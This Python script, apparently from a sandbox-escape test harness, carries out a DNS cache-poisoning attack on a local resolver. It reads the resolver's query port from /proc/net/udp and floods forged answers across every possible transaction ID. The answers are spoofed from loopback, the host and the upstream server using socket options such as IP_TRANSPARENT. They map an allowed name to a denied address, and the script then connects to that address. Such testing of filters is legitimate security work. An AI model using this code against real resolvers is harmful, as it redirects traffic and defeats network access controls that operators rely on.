"""Answers in the upstream's place: asks for an allowed name that no name server answers, and sends the answer itself, with every number
that the question can have, to the port that /proc shows. The address in it is a denied one, which the resolver would open.
"""

import select

ZONE, FORGED = sys.argv[1:]
OWN = own_address()


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, 1, 1)


def answers(asked):
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(FORGED)
    for number in range(0x10000):
        yield struct.pack("!HHHHHH", number, 0x8180, 1, 1, 0, 0) + asked[12:] + record


def udp_ports():
    """Of all the sockets in this network, and how many bytes wait at each."""
    with open("/proc/net/udp") as file:
        lines = [line.split() for line in list(file)[1:]]
    return {int(line[1].split(":")[1], 16): int(line[4].split(":")[1], 16) for line in lines}


def forge(address, option=(), ancillary=()):
    """Sends from port 53 of ADDRESS."""
    asked = question(f"r{os.urandom(6).hex()}.{ZONE}")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        asker.connect(("127.0.0.1", 53))
        if option:
            sender.setsockopt(*option, 1)
        sender.bind((address, 53))
        before = udp_ports()
        asker.send(asked)
        while not (ports := udp_ports().keys() - before):
            pass
        [port] = ports
        for number, answer in enumerate(answers(asked)):
            sender.sendmsg([answer], ancillary, 0, (OWN, port))
            # What finds no room there is lost.
            while number % 64 == 0 and udp_ports().get(port, 0) > 0:
                pass
            if select.select([asker], [], [], 0)[0]:
                break
        asker.settimeout(1)
        return "answered" if asker.recv(512)[7] else "empty"


SOURCE = struct.pack("=I4s4s", 0, socket.inet_aton(UPSTREAM), bytes(4))
step("from loopback", lambda: forge("127.0.0.9"))
step("from its own address", lambda: forge(OWN))
step("from the upstream's address", lambda: forge(UPSTREAM, (socket.SOL_IP, 15)))
step("from the upstream's address, by packet", lambda: forge("127.0.0.8", (), [(socket.SOL_IP, 8, SOURCE)]))
step("from the upstream's address, transparently", lambda: forge(UPSTREAM, (socket.SOL_IP, 19)))
step("the address that it names", lambda: tcp(FORGED, 80))
